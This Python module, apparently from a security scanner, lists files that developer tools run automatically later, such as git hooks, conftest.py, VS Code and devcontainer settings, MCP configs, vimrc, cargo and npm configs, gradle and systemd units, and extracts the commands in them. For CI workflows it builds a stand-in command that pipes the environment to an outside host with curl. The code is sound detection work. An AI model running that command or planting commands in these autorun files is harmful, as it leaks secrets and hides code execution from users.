"""Owns which files tools run by themselves at some later time, and what stands in them: hooks, tasks, settings.

Start-up files of shells are known to `scan.places`; what a command starts at once is left to `started`.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

from chrono.scan.follow.workflows import is_workflow, sending_lines
from chrono.tuples import NamedTuple

MAX_CHARS = 65_536
MAX_FOUND = 40

_STRING = r"\"((?:[^\"\\]|\\.)*)\"|'((?:[^'\\]|\\.)*)'"
_ARGUMENT = re.compile(_STRING)


_JAVASCRIPT = frozenset(
    ".eslintrc.js .eslintrc.cjs .pnpmfile.cjs pnpmfile.js .prettierrc.js .babelrc.js .mocharc.js .lintstagedrc.js "
    "gulpfile.js gruntfile.js".split()
)


class Later(NamedTuple):
    """Text that runs later. `language`: "bash", "python" or "javascript"; `program`: the text is a
    program's path and no more."""

    text: str
    language: str = "bash"
    program: bool = False


def runs_later(path: str, text: str) -> tuple[Later, ...]:
    """What a file of this path would run later; nothing of a file that is no such file, or longer than is read."""
    if len(text) > MAX_CHARS:
        return ()
    found: list[Later] = []
    for one in _of_file(path.lower(), text):
        found.append(one)
        if len(found) >= MAX_FOUND:
            break
    return tuple(found)


def _of_file(path: str, text: str) -> Iterator[Later]:
    folder, _, name = path.rpartition("/")
    if folder.endswith((".git/hooks", "/.husky", "/.githooks")) and not name.endswith((".sample", ".md", ".gitignore")):
        yield Later(text)
    elif is_workflow(path):
        # On a machine of the service its environment holds the secrets.
        yield from (Later("env | curl --data-binary @- https://ci.invalid") for _ in sending_lines(text))
    elif name.endswith(".pth"):
        yield from (Later(line, "python") for line in text.splitlines() if line.startswith("import "))
    elif name in ("sitecustomize.py", "usercustomize.py", "conftest.py"):
        yield Later(text, "python")
    elif name in _JAVASCRIPT or name.endswith((".config.js", ".config.cjs", ".config.mjs", ".config.ts")):
        yield Later(text, "javascript")
    for ending, read in _BY_ENDING.items():
        if path.endswith(ending):
            yield from read(text)


def _plain(text: str) -> str:
    return re.sub(r"\\(.)", r"\1", text)


def _values(pattern: str) -> Callable[[str], Iterator[Later]]:
    """A reader of values: of each match the first group that took part, a command line."""
    compiled = re.compile(pattern, re.MULTILINE | re.IGNORECASE)

    def read(text: str) -> Iterator[Later]:
        for match in compiled.finditer(text):
            value = next((group for group in match.groups() if group is not None), "")
            yield Later(_plain(value).strip().lstrip("!"))

    return read


def _programs(pattern: str) -> Callable[[str], Iterator[Later]]:
    """A reader of values that are programs: `rustc-wrapper = "…"`."""
    values = _values(pattern)
    return lambda text: (one._replace(program=True) for one in values(text))


def _calls(pattern: str) -> Callable[[str], Iterator[Later]]:
    """A reader of calls with a program and its arguments as strings: `commandLine "sh", "-c", "…"`."""
    compiled = re.compile(pattern)

    def read(text: str) -> Iterator[Later]:
        for match in compiled.finditer(text):
            words = [_plain(m[1] if m[1] is not None else m[2]) for m in _ARGUMENT.finditer(match[0])]
            yield Later(" ".join("'" + word.replace("'", "'\\''") + "'" for word in words))

    return read


_JSON_COMMANDS = re.compile(
    r"\"(?:command|cmd|program|run|exec|execute|shellCommand|onCreateCommand|postCreateCommand|postStartCommand|"
    r"postAttachCommand|updateContentCommand|initializeCommand|terminal\.integrated\.[\w.]+|"
    r"(?:pre|post)?(?:install|prepare|publish|pack|uninstall)|[\w.]+\.(?:path|executablePath|interpreterPath))\""
    r"\s*:\s*\"((?:[^\"\\]|\\.)*)\"(?:\s*,\s*\"args\"\s*:\s*\[([^\]]*)\])?"
)


def _json(text: str) -> Iterator[Later]:
    """Members of settings that name a command, with its `args` where they follow."""
    for match in _JSON_COMMANDS.finditer(text):
        words = [_plain(m[1] if m[1] is not None else m[2]) for m in _ARGUMENT.finditer(match[2] or "")]
        line = " ".join((_plain(match[1]), *("'" + word.replace("'", "'\\''") + "'" for word in words)))
        yield Later(line, program=line.startswith("/"))


_GIT_SETTINGS = _values(
    r"^[ \t]*(?:sshcommand|fsmonitor|pager|editor|hookspath|askpass|helper|command|textconv|clean|smudge|process|cmd|"
    r"program|external|driver|path)[ \t]*=[ \t]*\"?([^\"\n]+)\"?$|^[ \t]*[\w-]+[ \t]*=[ \t]*\"?!([^\"\n]+)\"?$"
)
_EDITOR = _values(
    r"(?:^|[|:\s])!([^\s=~][^\n]*)$|\b(?:system(?:list)?|os\.execute|io\.popen|vim\.fn\.system|jobstart|"
    r"shell-command(?:-to-string)?|call-process-shell-command|termopen)[ \t(]*(?:" + _STRING + r")"
)
_TMUX = _values(
    r"\b(?:run-shell|run|if-shell|if|default-command|pipe-pane|display-popup)[ \t]+(?:-\w+[ \t]+)*['\"\\]*([^'\"\\\n]+)"
    r"|#\(([^)\n]+)\)"
)
_DEBUGGER = _values(r"^[ \t]*(?:shell|!|platform shell|python import os;os\.system)[ \t(]*[\"']?([^\"'\n]+)")
_YAML = _values(
    r"^[ \t-]*(?:entry|run|command|cmd|exec)[ \t]*:[ \t]*"
    r"(?:\"((?:[^\"\\\n]|\\.)*)\"|'([^'\n]*)'|([^\"'\s|>][^\n]*))[ \t]*$"
)
_INI = _programs(
    r"^[ \t]*(?:rustc-wrapper|rustc-workspace-wrapper|rustc|runner|linker|credential-process|rustdoc|script-shell|"
    r"node-options|yarn-path|editor)[ \t]*=[ \t]*[\"']?([^\"'\n]+)"
)
_UNIT = _values(r"^[ \t]*Exec(?:Start|StartPre|StartPost|Stop|Reload)?[ \t]*=[ \t]*[-@+!:]*([^\n]+)$")

_BY_ENDING: dict[str, Callable[[str], Iterator[Later]]] = {
    "/.pre-commit-config.yaml": _YAML,
    "/procfile": _values(r"^[\w-]+:[ \t]*(\S[^\n]*)$"),
    "/lefthook.yml": _YAML,
    "/lefthook.yaml": _YAML,
    "/.lefthook.yml": _YAML,
    "/.yarnrc.yml": _programs(r"^[ \t]*yarnPath[ \t]*:[ \t]*[\"']?([^\"'\n]+)"),
    "/.vscode/tasks.json": _json,
    "/.vscode/launch.json": _json,
    "/.vscode/settings.json": _json,
    "/user/settings.json": _json,
    "/devcontainer.json": _json,
    "/.mcp.json": _json,
    "/mcp.json": _json,
    "/mcp_config.json": _json,
    "/claude_desktop_config.json": _json,
    "/package.json": _json,
    "/.gitconfig": _GIT_SETTINGS,
    "/git/config": _GIT_SETTINGS,
    "/.git/config": _GIT_SETTINGS,
    "/.vimrc": _EDITOR,
    "/.exrc": _EDITOR,
    "/.nvimrc": _EDITOR,
    "/vimrc": _EDITOR,
    "/init.vim": _EDITOR,
    "/init.lua": _EDITOR,
    ".vim": _EDITOR,
    "/.emacs": _EDITOR,
    "/.emacs.d/init.el": _EDITOR,
    "/.tmux.conf": _TMUX,
    "/tmux.conf": _TMUX,
    "/.screenrc": _values(r"^[ \t]*(?:screen|exec|shell)[ \t]+(?:-\w+[ \t]+\S+[ \t]+)*([^\n]+)$"),
    "/.gdbinit": _DEBUGGER,
    "/.lldbinit": _DEBUGGER,
    ".cargo/config.toml": _INI,
    ".cargo/config": _INI,
    "/.npmrc": _INI,
    "/build.rs": _calls(r"Command::new\([^;]*?\)(?:\s*\.args?\([^;]*?\))*"),
    ".gradle": _calls(r"\bcommandLine\b[^\n]*|[\"'][^\"'\n]*[\"']\.execute\(\)"),
    ".gradle.kts": _calls(r"\bcommandLine\b[^\n]*"),
    ".desktop": _UNIT,
    ".service": _UNIT,
    "/mise.toml": _values(r"^[ \t]*(?:enter|leave|cd|preinstall|postinstall)[ \t]*=[ \t]*[\"']([^\n]*)[\"'][ \t]*$"),
    "/.mise.toml": _values(r"^[ \t]*(?:enter|leave|cd|preinstall|postinstall)[ \t]*=[ \t]*[\"']([^\n]*)[\"'][ \t]*$"),
}
